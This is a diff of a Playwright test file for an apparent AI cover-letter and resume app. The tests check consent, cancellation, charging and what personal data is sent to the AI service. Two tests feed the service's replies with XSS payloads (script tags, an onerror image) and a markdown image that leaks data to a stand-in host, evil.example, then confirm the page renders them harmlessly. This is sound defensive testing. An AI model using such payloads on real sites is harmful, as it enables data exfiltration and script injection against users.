@@ -1,21 +1,27 @@
-import type { Page } from '@playwright/test'
+import type { APIRequestContext, Locator, Page } from '@playwright/test'
 import { startingBalance } from '#contract/tokens.ts'
 import { expectSent, letterFor, readPreview, test } from './support/ai.ts'
 import { still } from './support/inspect.ts'
 import { expect } from './support/journey.ts'
-import { type Member, newPerson, readUser } from './support/people.ts'
+import { newPerson, register } from './support/people.ts'
 
 const ready = (page: Page) => page.getByRole('heading', { name: 'Your Cover Letter is Ready!' })
 const underWay = (page: Page) => page.getByRole('heading', { name: 'We are writing your letter' })
 const consentStep = (page: Page) => page.getByRole('heading', { name: 'Privacy & Consent Required' })
 const button = (page: Page, name: string | RegExp) => page.getByRole('main').getByRole('button', { name })
-const label = (page: Page, text: string) => page.getByRole('main').getByText(text, { exact: true })
-const balanceOf = async ({ api }: Pick<Member, 'api'>) => (await readUser(api)).tokenBalance ?? Number.NaN
-const documentsOf = async ({ api }: Pick<Member, 'api'>) => (await (await api.get('/api/documents')).json()).documents
+const drafting = (page: Page) => page.getByRole('status').filter({ hasText: 'Asking for a first draft...' })
+const label = (page: Page, text: Writer) => page.getByRole('main').getByText(text, { exact: true })
+type Writer = 'AI-generated' | 'Written by Wayspark · free'
+const documentsOf = async (api: APIRequestContext) => (await (await api.get('/api/documents')).json()).documents
 
 async function agree(page: Page): Promise<void> {
   for (const box of await page.getByRole('group', { name: 'Privacy and consent' }).getByRole('checkbox').all())
     await box.check()
+}
+
+async function agreeAndGoOn(page: Page): Promise<void> {
+  await agree(page)
+  await button(page, 'Continue').click()
 }
 
 const baked = 'I baked bread with my grandmother every Sunday.'
@@ -24,8 +30,19 @@ async function askForLetter(page: Page): Promise<void> {
   await page.goto('/coveroptimizer?career=Baker')
   await page.getByLabel('Additional Information').fill(baked)
   await button(page, /^Generate Cover Letter/).click()
-  await agree(page)
-  await button(page, 'Continue').click()
+  await agreeAndGoOn(page)
+}
+
+async function openLetter(page: Page): Promise<Locator> {
+  await button(page, 'View Cover Letter').click()
+  const letter = page.getByRole('dialog')
+  await expect(letter).toContainText(baked)
+  return letter
+}
+
+async function expectHarmless(page: Page): Promise<void> {
+  expect(await page.content()).not.toMatch(/evil\.example|__xss/)
+  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
 }
 
 test.beforeEach(({ service }) => {
@@ -48,11 +65,7 @@ test('what she is shown is what is sent, and what is not true of her comes back 
 
   await test.step('she makes her account', async () => {
     await page.goto('/register')
-    await page.getByLabel('Username', { exact: true }).fill(person.username)
-    await page.getByLabel('Email', { exact: true }).fill(person.email)
-    await page.getByLabel('Password', { exact: true }).fill(person.password)
-    await page.getByLabel('Confirm password', { exact: true }).fill(person.password)
-    await button(page, 'Create Account').click()
+    await register(page.getByRole('main'), person)
     await page.waitForURL('**/dashboard')
     await expect(left(startingBalance)).toBeAttached()
   })
@@ -78,35 +91,23 @@ test('what she is shown is what is sent, and what is not true of her comes back 
   })
 
   await test.step('she allows it, and exactly that is sent', async () => {
-    await agree(page)
-    await button(page, 'Continue').click()
+    await agreeAndGoOn(page)
     await expect(ready(page)).toBeVisible()
-    const [sent, ...more] = service.requests
-    expect(more).toEqual([])
-    expectSent(sent, shown)
-    for (const each of hers) expect(JSON.stringify(sent?.body)).not.toMatch(each)
+    expectSent(service, shown, hers)
   })
 
   await test.step('the letter says who wrote it, and holds no lie', async () => {
     await expect(label(page, 'AI-generated')).toBeVisible()
     await expect(left(startingBalance - 3)).toBeAttached()
     await expect(page.getByRole('region', { name: 'Only you know this' })).toContainText(`Left out: "${lie}"`)
-    await button(page, 'View Cover Letter').click()
-    const letter = page.getByRole('dialog')
-    await expect(letter).toContainText(baked)
+    const letter = await openLetter(page)
     await expect(letter).toContainText('Sunrise Bakery')
     await expect(letter).not.toContainText('engineers')
   })
 })
 
-test('words of the service that would run or load something never reach the page', async ({
-  open,
-  member,
-  service,
-}) => {
-  const her = await member()
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+test('words of the service that would run or load something never reach the page', async ({ visit, service }) => {
+  const { page, spent } = await visit()
   const words =
     'I like it. ![cat](https://evil.example/leak?data=name) <img src="https://evil.example/x.png" onerror="window.__xss = 1"><script>window.__xss = 1</script>'
   service.answerWith(letterFor(/baked bread/, () => [{ text: words, facts: [] }]))
@@ -114,60 +115,45 @@ test('words of the service that would run or load something never reach the page
   await expect(ready(page)).toBeVisible()
   expect(service.requests).toHaveLength(1)
   await expect(label(page, 'Written by Wayspark · free')).toBeVisible()
-  await button(page, 'View Cover Letter').click()
-  await expect(page.getByRole('dialog')).toContainText(baked)
-  expect(await page.content()).not.toMatch(/evil\.example|__xss/)
-  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
-  expect(await balanceOf(her)).toBe(before)
+  await openLetter(page)
+  await expectHarmless(page)
+  expect(await spent()).toBe(0)
 })
 
 test('she cancels while the service says nothing: it is broken off, and nothing is charged or kept', async ({
-  open,
-  member,
+  visit,
   service,
 }) => {
-  const her = await member()
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+  const { page, api, spent } = await visit()
   service.faults.push('hang')
   await askForLetter(page)
   await service.asked(1)
-  await expect(page.getByRole('status').filter({ hasText: 'Asking for a first draft...' })).toBeVisible()
+  await expect(drafting(page)).toBeVisible()
   await button(page, 'Cancel').click()
   await expect(page.getByText('Nothing was charged. What you wrote is still here.')).toBeVisible()
   await expect(page.getByLabel('Additional Information')).toHaveValue(baked)
   await expect.poll(() => service.requests.map(({ brokenOff }) => brokenOff)).toEqual([true])
-  expect(await balanceOf(her)).toBe(before)
-  expect(await documentsOf(her)).toEqual([])
+  expect(await spent()).toBe(0)
+  expect(await documentsOf(api)).toEqual([])
 })
 
 test('where the service fails, our own writer writes, for nothing, and the page says so', async ({
-  open,
-  member,
+  visit,
   service,
 }) => {
-  const her = await member()
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+  const { page, spent } = await visit()
   service.faults.push('error-500', 'error-500')
   await askForLetter(page)
   await expect(ready(page)).toBeVisible()
   await expect(label(page, 'Written by Wayspark · free')).toBeVisible()
   await expect(page.getByRole('main')).not.toContainText('nothing was sent anywhere')
-  await button(page, 'View Cover Letter').click()
-  await expect(page.getByRole('dialog')).toContainText(baked)
+  await openLetter(page)
   expect(service.requests).toHaveLength(2)
-  expect(await balanceOf(her)).toBe(before)
+  expect(await spent()).toBe(0)
 })
 
-test('a reload in the middle finds the work again, which is done and charged once', async ({
-  open,
-  member,
-  service,
-}) => {
-  const her = await member()
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+test('a reload in the middle finds the work again, which is done and charged once', async ({ visit, service }) => {
+  const { page, api, spent } = await visit()
   const { promise: answered, resolve: letGo } = Promise.withResolvers<void>()
   service.holdUntil = answered
   await askForLetter(page)
@@ -175,20 +161,18 @@ test('a reload in the middle finds the work again, which is done and charged onc
   await expect(underWay(page)).toBeVisible()
   await page.reload()
   await expect(underWay(page)).toBeVisible()
-  await expect(page.getByRole('status').filter({ hasText: 'Asking for a first draft...' })).toBeVisible()
+  await expect(drafting(page)).toBeVisible()
   await expect(page.getByRole('progressbar')).not.toHaveAttribute('aria-valuenow', '0')
   letGo()
   await expect(ready(page)).toBeVisible()
   await expect(label(page, 'AI-generated')).toBeVisible()
   expect(service.requests).toHaveLength(1)
-  expect(await balanceOf(her)).toBe(before - 3)
-  expect(await documentsOf(her)).toHaveLength(1)
+  expect(await spent()).toBe(3)
+  expect(await documentsOf(api)).toHaveLength(1)
 })
 
-test('consent taken back in another tab holds for the very next letter', async ({ open, member, service }) => {
-  const her = await member()
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+test('consent taken back in another tab holds for the very next letter', async ({ visit, service }) => {
+  const { page, spent } = await visit()
   await askForLetter(page)
   await expect(ready(page)).toBeVisible()
   await button(page, 'Generate Another').click()
@@ -202,12 +186,11 @@ test('consent taken back in another tab holds for the very next letter', async (
   await button(page, /^Generate Cover Letter/).click()
   await expect(consentStep(page)).toBeVisible()
   expect(service.requests).toHaveLength(1)
-  expect(await balanceOf(her)).toBe(before - 3)
-  await agree(page)
-  await button(page, 'Continue').click()
+  expect(await spent()).toBe(3)
+  await agreeAndGoOn(page)
   await expect(ready(page)).toBeVisible()
   expect(service.requests).toHaveLength(2)
-  expect(await balanceOf(her)).toBe(before - 6)
+  expect(await spent()).toBe(6)
 })
 
 const resume = `Tamsin Okonkwo
@@ -224,14 +207,8 @@ Jun 2024 - present
 Skills
 Excel, Polish`
 
-test('a resume is worded by the service, without her contact data and without its lie', async ({
-  open,
-  member,
-  service,
-}) => {
-  const her = await member()
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+test('a resume is worded by the service, without her contact data and without its lie', async ({ visit, service }) => {
+  const { page, spent } = await visit()
   service.answerWith(({ text }) => {
     const signOf = (line: string) => new RegExp(`^(L\\d+): .*${line}`, 'm').exec(text)?.[1] ?? ''
     const change = { reason: 'stronger-verb', facts: [] }
@@ -257,22 +234,15 @@ test('a resume is worded by the service, without her contact data and without it
   await expect(page.getByRole('main')).not.toContainText('engineers')
   await page.getByRole('tab', { name: 'Advice' }).click()
   await expect(page.getByRole('region', { name: 'Only you know this' })).toBeVisible()
-  const [sent, ...more] = service.requests
-  expect(more).toEqual([])
-  expectSent(sent, parts)
-  expect(JSON.stringify(sent?.body)).not.toMatch(/tamsin|okonkwo|900123|leeds/i)
-  expect(await balanceOf(her)).toBe(before - 3)
+  expectSent(service, parts, [/tamsin|okonkwo|900123|leeds/i])
+  expect(await spent()).toBe(3)
 })
 
 test('interview questions of the service: as plain text, labelled and charged, and nothing of her is sent', async ({
-  open,
-  member,
+  visit,
   service,
 }) => {
-  const her = await member({ quiz: true })
-  const best = her.results?.suggestions[0]?.title ?? ''
-  const before = await balanceOf(her)
-  const page = await open({ storageState: her.storageState, ...still })
+  const { page, person, matches, spent } = await visit({ quiz: true })
   const good = Array.from({ length: 10 }, (_, place) => ({
     text: `What would you do first on day ${place + 1}?`,
     kind: 'situation',
@@ -280,15 +250,15 @@ test('interview questions of the service: as plain text, labelled and charged, a
   const harmful = ['What is this? ![x](https://evil.example/x.png)', 'Why? <script>window.__xss = 1</script>']
   service.answerWith({ questions: [...harmful.map(text => ({ text, kind: 'story' })), ...good] })
   await page.goto('/interview-prep')
-  await button(page, `Get questions 3 tokens for ${best}`).click()
+  await button(page, `Get questions 3 tokens for ${matches[0]}`).click()
   const questions = page.getByRole('region', { name: /^Questions for / })
   await expect(questions.getByRole('heading', { level: 3 })).toHaveCount(10)
   await expect(questions).toContainText('What would you do first on day 10?')
   await expect(label(page, 'AI-generated')).toBeVisible()
-  expect(await page.content()).not.toMatch(/evil\.example|__xss/)
-  const { username, email } = her.person
+  await expectHarmless(page)
+  const { username, email } = person
   for (const hers of [username, email])
     expect(JSON.stringify(service.requests.map(({ body }) => body))).not.toContain(hers)
   expect(service.requests).toHaveLength(1)
-  expect(await balanceOf(her)).toBe(before - 3)
+  expect(await spent()).toBe(3)
 })
